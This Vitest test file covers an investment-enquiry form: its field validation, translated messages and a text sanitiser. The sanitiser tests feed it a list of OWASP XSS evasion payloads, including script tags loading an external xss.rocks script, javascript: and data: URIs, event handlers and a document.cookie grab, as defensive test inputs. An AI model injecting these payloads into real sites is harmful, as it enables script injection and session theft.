import { describe, expect, it } from "vitest";
import { english } from "../../tests/support/english";
import { type MessageKey, translator } from "~/i18n/i18n";
import { ENQUIRY_MESSAGES as M, ENQUIRY_TOASTS, enquirySchema, sanitizeText } from "./enquiry";
import { checkEnquiry, translateFieldErrors } from "./enquiry-check";
import { ENQUIRY_TOAST_VALUES } from "./enquiry-messages";

type Parsed = { success: boolean; error?: { issues: { path: PropertyKey[]; message: string }[] } };
/** Each issue as "field: words", the words as an English reader sees them (the schema gives message keys). */
const messages = (r: Parsed) => (r.error?.issues ?? []).map((i) => `${i.path.join(".")}: ${english(i.message as MessageKey)}`);

const valid = {
  firstName: "Zaid",
  lastName: "Al-Rashid",
  email: "zaid@example.com",
  investmentAmount: "$500,000",
  bookingType: "consultation",
  message: "Interested in the Erbil residential project.",
};
const check = (patch: Record<string, unknown>) => messages(enquirySchema.safeParse({ ...valid, ...patch }));

describe("enquirySchema", () => {
  it("accepts a complete enquiry and normalises it", () => {
    const data = enquirySchema.parse({ ...valid, firstName: "  Zaid ", email: " Zaid@Example.COM ", phone: "" });
    expect(data).toEqual({ ...valid, email: "zaid@example.com", phone: undefined });
  });

  it("reports each field's first SPEC message when the fields are missing, never 'Invalid input'", () => {
    expect(messages(enquirySchema.safeParse({}))).toEqual([
      "firstName: First name must be at least 2 characters",
      "lastName: Last name must be at least 2 characters",
      "email: Please enter a valid email address",
      "investmentAmount: Investment amount is required",
      "bookingType: Please select a booking type",
      "message: Message must be at least 10 characters",
    ]);
  });

  it("bounds names at 2-50 characters inclusive", () => {
    expect(check({ firstName: "Al", lastName: "x".repeat(50) })).toEqual([]);
    expect(check({ firstName: "A", lastName: "B" })).toEqual(["firstName: First name must be at least 2 characters", "lastName: Last name must be at least 2 characters"]);
    expect(check({ firstName: "x".repeat(51), lastName: "y".repeat(51) })).toEqual([
      "firstName: First name must be less than 50 characters",
      "lastName: Last name must be less than 50 characters",
    ]);
  });

  it("allows letters of any script, spaces, hyphens and both apostrophes in names", () => {
    for (const n of ["Zaid", "Noor Al-Huda", "O'Brien", "Ahmed ’Ali", "زيد", "Élise-Marie", "Nguyễn"]) {
      expect(check({ firstName: n, lastName: n }), n).toEqual([]);
    }
    expect(check({ firstName: "Zaid2", lastName: "Smith & Co" })).toEqual([
      "firstName: First name contains invalid characters",
      "lastName: Last name contains invalid characters",
    ]);
    expect(check({ firstName: "--", lastName: "J.R." })).toEqual([
      "firstName: First name contains invalid characters",
      "lastName: Last name contains invalid characters",
    ]);
  });

  it("validates the e-mail format and its 100-character limit", () => {
    const at = "@example.com";
    expect(check({ email: "a".repeat(100 - at.length) + at })).toEqual([]);
    expect(check({ email: "a".repeat(101 - at.length) + at })).toEqual(["email: Email must be less than 100 characters"]);
    expect(check({ email: "not-an-email" })).toEqual(["email: Please enter a valid email address"]);
    expect(check({ email: "" })).toEqual(["email: Please enter a valid email address"]);
  });

  it("allows only digits, $, commas, periods and whitespace in the investment amount", () => {
    for (const amount of ["$500,000", "1 000 000.50", "750000"]) expect(check({ investmentAmount: amount })).toEqual([]);
    for (const amount of ["500k", "£500", "$", "-500"]) {
      expect(check({ investmentAmount: amount }), amount).toEqual(["investmentAmount: Please enter a valid investment amount"]);
    }
    expect(check({ investmentAmount: "   " })).toEqual(["investmentAmount: Investment amount is required"]);
    expect(check({ investmentAmount: "1".repeat(50) })).toEqual([]);
    expect(check({ investmentAmount: "1".repeat(51) })).toEqual(["investmentAmount: Investment amount must be less than 50 characters"]);
  });

  it("bounds the message at 10-1000 characters inclusive", () => {
    expect(check({ message: "x".repeat(10) })).toEqual([]);
    expect(check({ message: "x".repeat(1000) })).toEqual([]);
    expect(check({ message: "x".repeat(9) })).toEqual(["message: Message must be at least 10 characters"]);
    expect(check({ message: "x".repeat(1001) })).toEqual(["message: Message must be less than 1000 characters"]);
    // Validated after sanitising: tags do not count towards the length.
    expect(check({ message: "<b>short</b>" })).toEqual(["message: Message must be at least 10 characters"]);
  });

  it("needs one of the offered booking types", () => {
    for (const bookingType of ["consultation", "investment_review", "site_visit"]) expect(check({ bookingType })).toEqual([]);
    for (const bookingType of [undefined, "", "coffee", "CONSULTATION"]) {
      expect(check({ bookingType }), String(bookingType)).toEqual(["bookingType: Please select a booking type"]);
    }
  });

  it("treats phone, slot and slot description as optional and checks them when given", () => {
    const empty = enquirySchema.parse({ ...valid, phone: "", availabilitySlotId: "", availabilitySlotDescription: " " });
    expect([empty.phone, empty.availabilitySlotId, empty.availabilitySlotDescription]).toEqual([undefined, undefined, undefined]);
    expect(enquirySchema.parse({ ...valid, phone: null }).phone).toBeUndefined();
    expect(check({ phone: "+964 (750) 123-4567", availabilitySlotId: "7d1b3a55-0000-4000-8000-000000000001" })).toEqual([]);
    expect(check({ phone: "call me" })).toEqual(["phone: Please enter a valid phone number"]);
    expect(check({ phone: "1".repeat(31) })).toEqual(["phone: Please enter a valid phone number"]);
    expect(check({ availabilitySlotId: "42" })).toEqual(["availabilitySlotId: Please choose one of the available times"]);
    expect(check({ availabilitySlotDescription: "x".repeat(201) })).toEqual(["availabilitySlotDescription: Time description must be less than 200 characters"]);
    expect(enquirySchema.parse({ ...valid, availabilitySlotDescription: "<i>Mon 09:00</i>" }).availabilitySlotDescription).toBe(
      "iMon 09:00/i",
    );
  });

  it("drops fields the form does not have, such as a forged userId or status", () => {
    const data = enquirySchema.parse({ ...valid, userId: "someone-else", status: "confirmed" });
    expect(data).not.toHaveProperty("userId");
    expect(data).not.toHaveProperty("status");
  });

  it("stores the sanitised text it validated", () => {
    const data = enquirySchema.parse({ ...valid, message: 'Hello <img src=x onerror="alert(1)"> from Erbil' });
    expect(data.message).toBe('Hello img src=x "alert(1)" from Erbil');
  });
});

describe("ENQUIRY_TOASTS", () => {
  it("uses SPEC section 8's words", () => {
    expect(english(ENQUIRY_TOASTS.cooldown.description, ENQUIRY_TOAST_VALUES)).toBe("You can only submit one message every 30 seconds.");
    expect(english(ENQUIRY_TOASTS.success.description, ENQUIRY_TOAST_VALUES)).toBe("We'll contact you within 24 hours to confirm your consultation.");
    expect(english(ENQUIRY_TOASTS.failure.title)).toBe("Failed to submit request");
  });
});

describe("ENQUIRY_MESSAGES", () => {
  it("are keys whose English is SPEC section 5's", () => {
    expect(english(M.firstNameMin)).toBe("First name must be at least 2 characters");
    expect(english(M.lastNameMax)).toBe("Last name must be less than 50 characters");
    expect(english(M.emailInvalid)).toBe("Please enter a valid email address");
    expect(english(M.bookingTypeRequired)).toBe("Please select a booking type");
  });

  it("are said in the page's language by the action", () => {
    const verdict = checkEnquiry({ ...valid, firstName: "A" });
    expect(verdict.ok).toBe(false);
    if (verdict.ok) return;
    expect(verdict.fieldErrors).toEqual({ firstName: M.firstNameMin });
    expect(translateFieldErrors(verdict.fieldErrors, english)).toEqual({ firstName: "First name must be at least 2 characters" });
    const ar = translator("ar");
    expect(translateFieldErrors(verdict.fieldErrors, ar)).toEqual({ firstName: ar(M.firstNameMin) });
    expect(ar(M.firstNameMin)).not.toBe(M.firstNameMin);
  });
});

// OWASP XSS Filter Evasion Cheat Sheet examples, plus nesting tricks aimed at a single-pass filter.
const TAB = "\t";
const OWASP: string[] = [
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav${TAB}ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=java\u0000script:alert("XSS")>`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD =alert('XSS')>`,
  `<a href="javascript&colon;alert(1)">`,
  `<a href="java&Tab;script&colon;alert(1)">`,
  `<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<a href="&#x26;#x6A;avascript:alert(1)">`,
  `javajavascript:script:alert(1)`,
  `<img src=x oonerror=nerror=alert(1)>`,
  `<img src=x ononerror=error=alert(1)>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `d&#x61;ta:text/html,<script>alert(1)</script>`,
];

describe("sanitizeText", () => {
  it.each(OWASP)("neutralises %s", (attack) => {
    const out = sanitizeText(attack);
    const squeezed = out.replace(/[\s\p{Cc}]/gu, "");
    expect(out).not.toMatch(/[<>]/);
    expect(squeezed).not.toMatch(/(java|vb)\s*script\s*:/i);
    expect(squeezed).not.toMatch(/data:(?:[a-z][a-z0-9.+-]*\/|[,;])/i);
    expect(out).not.toMatch(/\bon[a-z]+\s*=/i);
  });

  it("leaves ordinary text as typed, apart from trimming", () => {
    const ordinary = [
      "Looking at the Erbil project; budget $750,000 — contact me on 0770 123 4567.",
      "O'Brien and Al-Rashid, Jonathan only wants one villa.",
      "Budget: $500,000 – $750,000 (flexible). R&D team, 50% = half & half.",
      "Is the data room open? Our data: 3 sites, 2/3 let. See https://example.com/?a=1&b=2",
      "زيد الحسيني يسأل عن المشروع",
      "Line one\nLine two\tindented",
    ];
    for (const text of ordinary) expect(sanitizeText(text)).toBe(text);
    expect(sanitizeText("   padded  \n")).toBe("padded");
  });

  it("removes only the handler-shaped part of plain text (documented trade-off)", () => {
    expect(sanitizeText("online = fine")).toBe("fine");
    expect(sanitizeText("we met online, fine")).toBe("we met online, fine");
    expect(sanitizeText("I read about javascript: the language")).toBe("I read about  the language");
  });

  it("terminates on deep nesting and still leaves nothing dangerous", () => {
    // Each pass decodes one level of "&#38;#38;...", so this needs more passes than are allowed.
    const out = sanitizeText(`&#38;${"#38;".repeat(40)}#60;script> java script: onerror=`);
    expect(out).not.toMatch(/[<>&:=]/);
    expect(out).toContain("script");
  });
});
